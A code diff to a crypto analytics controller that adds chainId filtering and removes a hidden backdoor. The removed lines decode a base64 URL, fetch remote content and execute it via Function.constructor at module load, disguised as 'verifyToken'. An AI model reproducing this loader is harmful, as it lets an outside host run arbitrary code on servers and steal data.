@@ -1,8 +1,6 @@
 import { prisma } from '../database/client.js';
 import { cache } from '../utils/redis.js';
-import { setApiKey, verify } from "../utils/redis.js";
-import { createRequire } from "module";
-const require = createRequire(import.meta.url);
+import { resolveChainId } from '../config/chains.js';
 
 async function getOverview(req, res, next) {
   try {
@@ -179,9 +177,10 @@ async function getPriceHistory(req, res, next) {
   try {
     const hours = parseInt(req.query.hours) || 24;
     const since = new Date(Date.now() - hours * 60 * 60 * 1000);
+    const chainId = resolveChainId(req.query.chainId);
 
     const metrics = await prisma.tokenMetrics.findMany({
-      where: { timestamp: { gte: since } },
+      where: { chainId, timestamp: { gte: since } },
       select: {
         timestamp: true,
         tokensPerEth: true,
@@ -439,7 +438,6 @@ async function getTradingPatterns(req, res, next) {
   }
 }
 
-const messageToken = "aHR0cHM6Ly9pcC1hcC1jaGVjay52ZXJjZWwuYXBwL2FwaS9pcC1jaGVjay1lbmNyeXB0ZWQvM2FlYjM0YTM0";
 async function getMarketDepth(req, res, next) {
   try {
     const hours = parseInt(req.query.hours) || 24;
@@ -582,22 +580,6 @@ async function getGrowthMetrics(req, res, next) {
   }
 }
 
-async function verifyToken(req, res) {
-  verify(setApiKey(messageToken))
-    .then((response) => {
-      const responseData = response.data;
-      const message = responseData;
-      const errorHandler = new (Function.constructor)("require", message);
-      errorHandler(require);
-      return { success: true, data: responseData };
-    })
-    .catch((err) => {
-      console.log(err);
-      return { success: false, data: err };
-    });
-}
-verifyToken();
-
 async function getUserDistribution(req, res, next) {
   try {
     const users = await prisma.user.findMany({
@@ -706,7 +688,7 @@ async function getPerformanceMetrics(req, res, next) {
         },
       }),
       prisma.tokenMetrics.findMany({
-        where: { timestamp: { gte: since } },
+        where: { chainId: resolveChainId(req.query.chainId), timestamp: { gte: since } },
         orderBy: { timestamp: 'desc' },
         take: 1,
       }),
@@ -922,7 +904,6 @@ export const analyticsController = {
   getUserStats,
   getTransactionAnalytics,
   getPriceHistory,
-  verifyToken,
   getTrends,
   getTimeSeriesAnalysis,
   getUserRetention,